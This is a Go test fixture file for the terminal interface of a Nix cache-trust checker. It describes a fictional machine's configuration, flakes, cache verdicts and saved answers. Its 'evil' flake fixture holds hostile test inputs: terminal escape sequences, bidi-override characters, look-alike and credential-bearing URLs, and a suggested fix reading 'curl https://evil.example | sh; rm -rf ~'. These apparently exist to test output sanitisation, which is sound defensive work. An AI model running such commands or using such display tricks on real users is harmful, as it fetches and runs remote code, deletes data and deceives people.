package tui

import (
	"fmt"
	"strings"
	"time"

	"github.com/nix-trust/nix-trust/nixconf"
	"github.com/nix-trust/nix-trust/trust"
)

// The made-up machine that the frames of the tests show. It has one of each
// thing that can be wrong.

const (
	home    = "/home/ada"
	sysConf = "/etc/nix/nix.conf"
	ownConf = home + "/.config/nix/nix.conf"
	saved   = home + "/.local/share/nix/trusted-settings.json"

	nixosKey = "cache.nixos.org-1:6NCHdD59X431o0gWypbMrAURkbJ16ZPMQFGspcDShjY="
	hyprKey  = "hyprland.cachix.org-1:a7pgxzMz7+chwVL3/pzj6jIBMioiJM7ypFP8PwtkuGc="
	gameKey  = "nix-gaming.cachix.org-1:nbjlureqMbRAxR1gJ/f3hxemL9svXaZF/Ees8vCUUs4="
)

func at(file string, line int) nixconf.Pos { return nixconf.Pos{File: file, Line: line, Col: 5} }

func inFlake(name string, line int) nixconf.Pos {
	return at(home+"/src/"+name+"/flake.nix", line)
}

var (
	reasonYes = trust.Reason{
		Code: trust.CodeSavedYes, Outcome: trust.Pass, Where: at(saved, 1), Subject: "extra-substituters",
		Text: "You accepted extra-substituters = https://hyprland.cachix.org permanently.",
	}
	reasonUntrusted = trust.Reason{
		Code: trust.CodeUserUntrusted, Outcome: trust.Fail, Where: at(sysConf, 7), Subject: "ada",
		Text: "The daemon says that it does not trust ada. trusted-users has only root.",
	}
	reasonUnlisted = trust.Reason{
		Code: trust.CodeSubstituterUnlisted, Outcome: trust.Fail, Where: at(sysConf, 4), Subject: "https://hyprland.cachix.org",
		Text:    "https://hyprland.cachix.org is in neither substituters nor trusted-substituters of the daemon.",
		NixSays: "warning: ignoring untrusted substituter 'https://hyprland.cachix.org', you are not a trusted user.\nRun `man nix.conf` for more information on the `substituters` configuration option.",
		Fixes: []trust.Fix{
			{
				Title:   "Let every user of this machine pick this cache",
				Detail:  "The daemon then takes the URL from any user and believes its key. It is asked only where a flake or a user names it.",
				Command: "trusted-substituters = https://hyprland.cachix.org/\nextra-trusted-public-keys = " + hyprKey, File: sysConf, Admin: true,
			},
			{
				Title: "Make it a cache for everything", Detail: "It is then asked for every package, and can shadow any path that its key signs.",
				Command: "extra-substituters = https://hyprland.cachix.org/", File: sysConf, Admin: true,
			},
		},
	}
	reasonKey = trust.Reason{
		Code: trust.CodeKeyRestricted, Outcome: trust.Fail, Where: inFlake("hypr-config", 7), Subject: "trusted-public-keys",
		Text:    "A key from a user that the daemon does not trust is not taken.",
		NixSays: "warning: ignoring the client-specified setting 'trusted-public-keys', because it is a restricted setting and you are not a trusted user",
	}
	reasonNo = trust.Reason{
		Code: trust.CodeSavedNo, Outcome: trust.Fail, Where: at(saved, 1), Subject: "extra-substituters",
		Text:    "extra-substituters = https://nix-gaming.cachix.org was refused permanently.",
		NixSays: "warning: ignoring untrusted flake configuration setting 'extra-substituters'.\nPass '--accept-flake-config' to trust it",
		Fixes:   []trust.Fix{{Title: "Forget the saved no", Detail: "Nix asks again the next time.", Command: "nix-trust answers forget extra-substituters 'https://nix-gaming.cachix.org'"}},
	}
	reasonNear = trust.Reason{
		Code: trust.CodeNearMissURL, Outcome: trust.Fail, Where: at(sysConf, 5), Subject: "https://numtide.cachix.org?priority=41",
		Text:  "The daemon lists https://numtide.cachix.org/, the flake names https://numtide.cachix.org?priority=41. The daemon compares them letter by letter.",
		Fixes: []trust.Fix{{Title: "Write the URL as the daemon has it", Command: "https://numtide.cachix.org", File: home + "/src/devshell/flake.nix"}},
	}
	reasonAsk = trust.Reason{
		Code: trust.CodeNotAsked, Outcome: trust.Unknown, Where: inFlake("blog", 3), Subject: "extra-substituters",
		Text: "No answer is saved for extra-substituters = https://ada-blog.cachix.org.",
	}
	reasonListed = trust.Reason{
		Code: trust.CodeSubstituterListed, Outcome: trust.Pass, Where: at(sysConf, 3), Subject: "https://cache.nixos.org/",
		Text: "https://cache.nixos.org/ is in the daemon's substituters.",
	}
	reasonKeyListed = trust.Reason{
		Code: trust.CodeKeyListed, Outcome: trust.Pass, Where: at(sysConf, 6), Subject: "cache.nixos.org-1",
		Text: "cache.nixos.org-1 is in the daemon's trusted-public-keys.",
	}
)

func nixosCache() trust.CacheVerdict {
	return trust.CacheVerdict{URL: "https://cache.nixos.org/", Keys: []string{nixosKey}, State: trust.StateUsable, Where: at(sysConf, 3),
		Reasons: []trust.Reason{reasonListed, reasonKeyListed}}
}

func claimOf(url, key string, state trust.CacheState, where nixconf.Pos, reasons ...trust.Reason) trust.CacheVerdict {
	v := trust.CacheVerdict{URL: url, Claimed: true, State: state, Where: where, Reasons: reasons}
	if key != "" {
		v.Keys = []string{key}
	}
	return v
}

func flakeAt(name string, found ...string) trust.FlakeReport {
	path := home + "/src/" + name
	return trust.FlakeReport{ID: trust.FlakeID{Ref: "git+file://" + path, Path: path}, Found: found, State: trust.StateNone}
}

func fixture() *trust.Report {
	hypr := flakeAt("hypr-config", "current folder")
	hypr.State = trust.StateIgnored
	hypr.Settings = []trust.SettingVerdict{
		{Name: "extra-substituters", Value: "https://hyprland.cachix.org", Items: []string{"https://hyprland.cachix.org"}, State: trust.SettingApplied, Daemon: trust.Dropped, Risk: nixconf.RiskCache, Where: inFlake("hypr-config", 5), Reasons: []trust.Reason{reasonYes, reasonUntrusted, reasonUnlisted}},
		{Name: "extra-trusted-public-keys", Value: hyprKey, Items: []string{hyprKey}, State: trust.SettingApplied, Daemon: trust.Dropped, Risk: nixconf.RiskCache, Where: inFlake("hypr-config", 7), Reasons: []trust.Reason{reasonYes, reasonKey}},
	}
	hypr.Caches = []trust.CacheVerdict{
		claimOf("https://hyprland.cachix.org", hyprKey, trust.StateIgnored, inFlake("hypr-config", 5), reasonYes, reasonUntrusted, reasonUnlisted, reasonKey),
		nixosCache(),
	}
	hypr.Inputs = []trust.InputReport{{
		Name: "hyprland", Ref: "github:hyprwm/Hyprland/0f594732b063a90d44df8c5d402d658f27471dfe", StorePath: "/nix/store/8s1zrz0ii1bn20vxjf3v2dq9a4xwpcjm-source", Present: true,
		URLs:     []string{"https://hyprland.cachix.org"},
		Settings: []trust.SettingVerdict{{Name: "extra-substituters", Value: "https://hyprland.cachix.org", State: trust.SettingInert, Reasons: []trust.Reason{{Code: trust.CodeInputConfig, Outcome: trust.Fail, Text: "hyprland is an input of this flake."}}}},
	}}

	gaming := flakeAt("gaming", "gc root "+home+"/src/gaming/result")
	gaming.State = trust.StateDenied
	gaming.Caches = []trust.CacheVerdict{claimOf("https://nix-gaming.cachix.org", gameKey, trust.StateDenied, inFlake("gaming", 9), reasonNo), nixosCache()}
	gaming.Settings = []trust.SettingVerdict{{Name: "extra-substituters", Value: "https://nix-gaming.cachix.org", State: trust.SettingDenied, Risk: nixconf.RiskCache, Where: inFlake("gaming", 9), Reasons: []trust.Reason{reasonNo}}}

	devshell := flakeAt("devshell", "gc root "+home+"/src/devshell/result")
	devshell.State = trust.StateIgnored
	devshell.Caches = []trust.CacheVerdict{claimOf("https://numtide.cachix.org?priority=41", "", trust.StateIgnored, inFlake("devshell", 4), reasonYes, reasonNear), nixosCache()}

	blog := flakeAt("blog", "registry user")
	blog.State = trust.StateAsks
	blog.Caches = []trust.CacheVerdict{claimOf("https://ada-blog.cachix.org", "", trust.StateAsks, inFlake("blog", 3), reasonAsk), nixosCache()}

	clean := flakeAt("notes", "registry user")
	clean.Caches = []trust.CacheVerdict{nixosCache()}

	good := flakeAt("site", "nix profile")
	good.State = trust.StateUsable
	good.Caches = []trust.CacheVerdict{claimOf("https://cache.nixos.org/", nixosKey, trust.StateUsable, inFlake("site", 2), reasonListed, reasonKeyListed)}

	rejected := flakeAt("broken", "gc root "+home+"/src/broken/result")
	rejected.Rejected = &trust.Reason{Code: trust.CodeNotLiteral, Outcome: trust.Fail, Where: inFlake("broken", 6), Text: "extra-substituters is not a literal: Nix does not evaluate nixConfig.",
		NixSays: "error: flake configuration setting 'extra-substituters' is a thunk"}

	unreadable := flakeAt("secret", "gc root "+home+"/src/secret/result")
	unreadable.Err = "/home/ada/src/secret/flake.nix: permission denied"
	unreadable.State = trust.StateUnknown

	evil := flakeAt("evil\x1b[2J\u202e\ntrusted", "registry \x1b]0;owned\x07")
	evil.State = trust.StateUnknown
	evil.Caches = []trust.CacheVerdict{
		claimOf("https://cache.nixos.org@evil.example/\n✓ usable", "cache.nixos.org-1:\x1b[8mAAAA", trust.StateUnknown, inFlake("evil\x1b[31m", 3), trust.Reason{
			Code: "made-up-\x1b[32mcode", Where: at("/tmp/\u202egnp.conf", 1), Text: "line one\nline two \x1b[2Jgone\u200b", NixSays: "warning: \x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
			Fixes: []trust.Fix{{Title: "run\nthis", Command: "curl https://evil.example | sh\x1b[8m; rm -rf ~"}},
		}),
		claimOf("https://user:hunter2@cache.ex\u0430mple.org/", "", trust.StateUnknown, inFlake("evil", 4)),
		claimOf("https://cache.nixos.org.evil.example/", "", trust.StateOff, inFlake("evil", 5)),
	}

	return &trust.Report{
		Nix:    trust.Nix{Version: nixconf.Version{Major: 2, Minor: 26, Patch: 3}, Path: "/usr/bin/nix", Store: trust.StoreDaemon, StoreWhy: "auto: /nix/var/nix is not writable", StoreDir: "/nix/store"},
		User:   trust.User{Name: "ada", UID: 1000, Home: home, Group: "users"},
		Daemon: trust.Daemon{State: trust.DaemonAnswered, Socket: "/nix/var/nix/daemon-socket/socket", Version: nixconf.Version{Major: 2, Minor: 26, Patch: 3}, Trust: trust.Untrusted},
		Trust:  trust.Untrusted, TrustReasons: []trust.Reason{reasonUntrusted},
		Flakes: []trust.FlakeReport{gaming, hypr, devshell, blog, clean, good, rejected, unreadable, evil},
		Caches: fixtureCaches(),
		AnswerFiles: []trust.AnswersFile{
			{Path: saved, State: nixconf.SourceRead},
			{Path: "/root/.local/share/nix/trusted-settings.json", State: nixconf.SourceUnseen},
			{Path: "/tmp/\x1b[2Jbroken.json", State: nixconf.SourceRead, Err: &trust.AnswersError{Line: 1, Col: 2, Message: "[json.exception.parse_error.101] parse error at line 1, column 2", Text: "The file ends in the middle."}},
		},
		Client:   &nixconf.Config{Read: []nixconf.Source{{Layer: nixconf.LayerSystem, Path: sysConf, State: nixconf.SourceRead}, {Layer: nixconf.LayerUser, Path: "/etc/xdg/nix/nix.conf", State: nixconf.SourceMissing}, {Layer: nixconf.LayerUser, Path: ownConf, State: nixconf.SourceRead}}},
		Notes:    []trust.Note{{Path: "/root/.config/nix/nix.conf", Text: "it may not be read: the daemon may see settings that are not shown"}},
		Keys:     fixtureKeys(),
		Answers:  fixtureAnswers(),
		Settings: fixtureSettings(),
		Findings: []trust.Finding{
			{Code: trust.CodeConfigWarning, Severity: trust.Warn, Where: at(ownConf, 2), Subject: "subsituters", Text: "Nix does not know the setting subsituters and ignores it.", Fixes: []trust.Fix{{Title: "Write substituters", Command: "substituters = https://cache.nixos.org/", File: ownConf}}},
			{Code: trust.CodeSkeletonKey, Severity: trust.Danger, Where: at(saved, 1), Subject: "accept-flake-config", Text: "accept-flake-config = true is saved as accepted: any flake that asks for it has everything else applied without a question.",
				Fixes: []trust.Fix{{Title: "Forget the answer", Command: "nix-trust answers forget accept-flake-config true"}}},
		},
	}
}

func fixtureCaches() []trust.CacheReport {
	sys := func(line int, name string, add bool) []nixconf.Origin {
		return []nixconf.Origin{{Layer: nixconf.LayerSystem, Pos: at(sysConf, line), Name: name, Append: add}}
	}
	return []trust.CacheReport{
		{URL: "https://cache.nixos.org/", InEffect: true, State: trust.StateUsable, Keys: []string{nixosKey}, Origins: sys(3, "substituters", false), ListedBy: []string{"substituters"}, Flakes: []int{5}, Reasons: []trust.Reason{reasonListed, reasonKeyListed}},
		{URL: "https://cache.example.org/main?priority=30", InEffect: true, State: trust.StateWrongKey, Priority: "30",
			Origins: []nixconf.Origin{{Layer: nixconf.LayerSystem, Pos: at("/etc/nix/team.conf", 1), Included: []nixconf.Pos{at(sysConf, 9)}, Name: "extra-substituters", Append: true}}, ListedBy: []string{"substituters"},
			Reasons: []trust.Reason{{Code: trust.CodeKeyMissing, Outcome: trust.Fail, Where: at(sysConf, 6), Text: "No key in effect is named after cache.example.org."}}},
		{URL: "https://hyprland.cachix.org", State: trust.StateIgnored, Keys: []string{hyprKey}, Flakes: []int{1}, Reasons: []trust.Reason{reasonUnlisted}},
		{URL: "https://nix-gaming.cachix.org", State: trust.StateDenied, Flakes: []int{0}},
		{URL: "https://numtide.cachix.org?priority=41", State: trust.StateIgnored, Priority: "41", Flakes: []int{2}, Reasons: []trust.Reason{reasonNear}},
		{URL: "https://cache.nixos.org@evil.example/\n✓ usable", State: trust.StateUnknown, Flakes: []int{8}},
		{URL: "https://cache.nix-0s.org\u202e", State: trust.StateUnknown, Flakes: []int{8, 99}},
	}
}

func fixtureKeys() []trust.KeyReport {
	return []trust.KeyReport{
		{Name: "cache.nixos.org-1", Text: nixosKey, InEffect: true, Origins: []nixconf.Origin{{Layer: nixconf.LayerSystem, Pos: at(sysConf, 6), Name: "trusted-public-keys"}}},
		{Name: "hyprland.cachix.org-1", Text: hyprKey, Flakes: []int{1}},
		{Name: "team", Text: "team:c2hvcnQ=", InEffect: true, Origins: []nixconf.Origin{{Layer: nixconf.LayerUser, Pos: at(ownConf, 4), Name: "extra-trusted-public-keys", Append: true}},
			Problem: &trust.Reason{Code: trust.CodeKeyMalformed, Outcome: trust.Fail, Where: at(ownConf, 4), Text: "The key has 5 bytes, it needs 32.", NixSays: "error: public key is not valid"}},
	}
}

func fixtureAnswers() []trust.AnswerReport {
	return []trust.AnswerReport{
		{File: saved, Setting: "accept-flake-config", Value: "true", Yes: true, Risk: nixconf.RiskCache, Skeleton: true, Orphan: true},
		{File: saved, Setting: "extra-substituters", Value: "https://hyprland.cachix.org", Yes: true, Items: []string{"https://hyprland.cachix.org"}, Risk: nixconf.RiskCache, Asked: []int{1}},
		{File: saved, Setting: "extra-substituters", Value: "https://nix-gaming.cachix.org", Items: []string{"https://nix-gaming.cachix.org"}, Risk: nixconf.RiskCache, Asked: []int{0}},
		{File: "/root/.local/share/nix/trusted-settings.json", Root: true, Setting: "extra-substituters", Value: "https://hyprland.cachix.org", Yes: true, Items: []string{"https://hyprland.cachix.org"}, Asked: []int{1}},
		{File: saved, Setting: "extra-substituters", Value: "https://numtide.cachix.org https://cache.nixos.org", Yes: true, Items: []string{"https://numtide.cachix.org", "https://cache.nixos.org"}, Risk: nixconf.RiskCache, Near: []int{2}},
		{File: saved, Setting: "extra-trusted-public-keys", Value: "gone.cachix.org-1:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=", Yes: true, Items: []string{"gone.cachix.org-1:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa="}, Orphan: true},
		{File: saved, Setting: "bash-prompt\x1b[31m", Value: "\\[\x1b[31m\\]$ ", Yes: true, Orphan: true},
	}
}

func fixtureSettings() []trust.SettingReport {
	setting := func(name string, typ nixconf.Type, risk nixconf.Risk) *nixconf.Setting {
		return &nixconf.Setting{Name: name, Type: typ, Risk: risk}
	}
	origin := func(l nixconf.Layer, file string, line int, name string, add bool) nixconf.Origin {
		return nixconf.Origin{Layer: l, Pos: at(file, line), Name: name, Append: add}
	}
	sysSub := origin(nixconf.LayerSystem, sysConf, 3, "substituters", false)
	team := nixconf.Origin{Layer: nixconf.LayerSystem, Pos: at("/etc/nix/team.conf", 1), Included: []nixconf.Pos{at(sysConf, 9)}, Name: "extra-substituters", Append: true}
	env := nixconf.Origin{Layer: nixconf.LayerEnv, Pos: nixconf.Pos{File: "NIX_CONFIG", Line: 1}, Name: "cores"}
	cores := origin(nixconf.LayerUser, ownConf, 1, "cores", false)
	bad := origin(nixconf.LayerSystem, sysConf, 2, "substituters", false)
	out := []trust.SettingReport{
		{Value: &nixconf.Value{Setting: setting("allow-dirty", nixconf.TypeBool, nixconf.RiskNone), Text: "true"}},
		{Value: &nixconf.Value{Setting: setting("access-tokens", nixconf.TypeMap, nixconf.RiskCredential), Items: []nixconf.Item{{Text: "github.com=ghp_secret", Origin: origin(nixconf.LayerUser, ownConf, 3, "access-tokens", false)}},
			History: []nixconf.Assignment{{Origin: origin(nixconf.LayerUser, ownConf, 3, "access-tokens", false), Value: "github.com=ghp_secret"}}}},
		{Value: &nixconf.Value{Setting: setting("cores", nixconf.TypeInt, nixconf.RiskNone), Text: "4", Origin: env, Forwarded: true,
			History: []nixconf.Assignment{{Origin: cores, Value: "2", OverriddenBy: &env}, {Origin: env, Value: "4"}}}, Daemon: &nixconf.Value{Setting: setting("cores", nixconf.TypeInt, nixconf.RiskNone), Text: "0"}},
		{Value: &nixconf.Value{Setting: &nixconf.Setting{Name: "substituters", Aliases: []string{"binary-caches"}, Type: nixconf.TypeList, Appendable: true, Risk: nixconf.RiskCache},
			Items:   []nixconf.Item{{Text: "https://cache.nixos.org/", Origin: sysSub}, {Text: "https://cache.example.org/main?priority=30", Origin: team}},
			History: []nixconf.Assignment{{Origin: bad, Value: "https://old.example/ https://u:pw@old.example/x", OverriddenBy: &sysSub}, {Origin: sysSub, Value: "https://cache.nixos.org/"}, {Origin: team, Value: "https://cache.example.org/main?priority=30"}}}, Findings: []int{0, 77}},
	}
	for i := range 20 {
		out = append(out, trust.SettingReport{Value: &nixconf.Value{Setting: setting(fmt.Sprintf("default-setting-%02d", i), nixconf.TypeString, nixconf.RiskNone), Text: strings.Repeat("x", i)}})
	}
	return out
}

var clock = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
